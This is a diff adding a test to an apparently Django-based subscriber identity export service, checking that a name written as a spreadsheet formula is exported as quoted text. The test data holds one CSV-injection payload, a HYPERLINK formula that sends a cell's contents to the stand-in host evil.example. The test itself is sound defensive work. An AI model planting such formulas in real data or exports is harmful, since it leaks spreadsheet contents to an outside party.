@@ -558,3 +558,14 @@ def test_the_subscriber_autocomplete_finds_a_whole_number_and_shows_it_masked(cl
     assert "••••3456" in results[0]["text"]
     assert DOCUMENT not in found.content.decode()
     assert client.get(url, {**params, "term": "3456"}).json()["results"] == []
+
+
+def test_a_name_that_is_a_formula_is_exported_as_text(supervisor_a, auditor, holder):
+    """A subscriber named like a spreadsheet formula cannot run it on the reviewer's machine."""
+    holder.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    holder.save(update_fields=["full_name"])
+    export = services.identity_export_request(subscribers=[holder], actor=supervisor_a, reason="SIM registration audit")
+    content = services.identity_export_approve(export=export, actor=auditor, reason="regulator's request")
+    (row,) = csv.DictReader(io.StringIO(content))
+    assert row["full_name"] == "'" + holder.full_name
+    assert row["subscriber_id"] == str(holder.pk)
